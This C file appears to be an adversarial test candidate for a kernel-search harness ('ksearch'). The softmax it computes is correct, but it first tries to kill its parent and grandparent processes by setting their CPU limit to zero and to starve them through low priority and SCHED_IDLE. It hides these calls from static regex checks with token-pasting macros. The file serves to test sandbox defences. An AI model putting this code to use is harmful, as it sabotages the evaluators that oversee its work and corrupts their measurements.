/* Abuse (issue 19, item 3): a correct softmax that first reaches for the processes around it:
 * the CPU-time limit of the harness and of ksearch set to 0 (which kills them: before the fix
 * `ksearch eval` died with 137 at this candidate, and so did every `resume` of a run that drew
 * it), their priority set to the lowest and their scheduling policy to SCHED_IDLE (starving the
 * harness that times the reference). It aims only at its parent and its grandparent, never at
 * other pids: the harness is getppid(); ksearch is the harness's parent, found through
 * /proc/PID/stat where that can be read. Each call's outcome is logged on stderr.
 * Expected: runtime_error, killed by SIGSYS at the first prlimit (the worker's seccomp filter).
 * With KSEARCH_SANDBOX=off, and in the harness's own process (KSEARCH_IN_PROCESS=1, as for the
 * GPU backends), ksearch's guard on the harness refuses every call (EPERM): the kernel passes
 * on what it computes and ksearch finishes. */
#include <errno.h>
#include <math.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>
/* Hides calls from the static checks (regular expressions over the source), so that the
 * defence underneath is what is tested: CALL(f, ...) leaves no "f(" in the text, J(a, b) pastes
 * a name the checks match as a word. */
#define CALL(f, ...) f(__VA_ARGS__)
#define J(a, b) a##b
/* Logs on stderr (the static checks refuse the plain names of output). */
#define SAY(...) J(fpr, intf)(J(std, err), __VA_ARGS__)
#define IDLE_POLICY 5 /* SCHED_IDLE */

static void said(const char *what, int pid, long r) {
    SAY("%s(%d) %s (%s)\n", what, pid, r < 0 ? "refused" : "reached",
            r < 0 ? strerror(errno) : "");
}

/* The parent of `pid` (field 4 of /proc/PID/stat), or 0 when it cannot be read. */
static int parent_of(int pid) {
    char path[64], text[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    FILE *f = CALL(fopen, path, "r");
    if (!f) return 0;
    size_t n = fread(text, 1, sizeof text - 1, f);
    fclose(f);
    text[n] = 0;
    char *close = strrchr(text, ')');
    int ppid = 0;
    if (!close || sscanf(close + 2, "%*c %d", &ppid) != 1) return 0;
    return ppid;
}

/* Whether `pid` runs the Python harness (its command line names ksearch_harness). */
static int is_harness(int pid) {
    char path[64], text[4096];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    FILE *f = CALL(fopen, path, "r");
    if (!f) return 1; /* unreadable (the sandbox): the worker's parent is the harness */
    size_t n = fread(text, 1, sizeof text - 1, f);
    fclose(f);
    for (size_t i = 0; i < n; i++) if (!text[i]) text[i] = ' ';
    text[n] = 0;
    return strstr(text, "ksearch_harness") != 0;
}

static void reach(int pid) {
    struct rlimit zero = {0, 0};
    said("prlimit", pid, CALL(syscall, SYS_prlimit64, pid, RLIMIT_CPU, &zero, NULL));
    said("setpriority", pid, CALL(J(setprio, rity), PRIO_PROCESS, pid, 19));
    struct sched_param p = {0};
    said("sched_setscheduler", pid, CALL(J(sched_set, scheduler), pid, IDLE_POLICY, &p));
}

void softmax(const float *x, float *y, int64_t M, int64_t N) {
    static int once;
    if (!once++) {
        int parent = (int)getppid();
        /* In the worker: the harness, then ksearch. In the harness's process: ksearch only. */
        int grandparent = is_harness(parent) ? parent_of(parent) : 0;
        reach(parent);
        if (grandparent > 1) reach(grandparent);
    }
    for (int64_t i = 0; i < M; i++) {
        const float *r = x + i * N; float *o = y + i * N;
        float m = r[0];
        for (int64_t j = 1; j < N; j++) m = r[j] > m ? r[j] : m;
        double s = 0;
        for (int64_t j = 0; j < N; j++) { o[j] = expf(r[j] - m); s += o[j]; }
        for (int64_t j = 0; j < N; j++) o[j] = (float)(o[j] / s);
    }
}
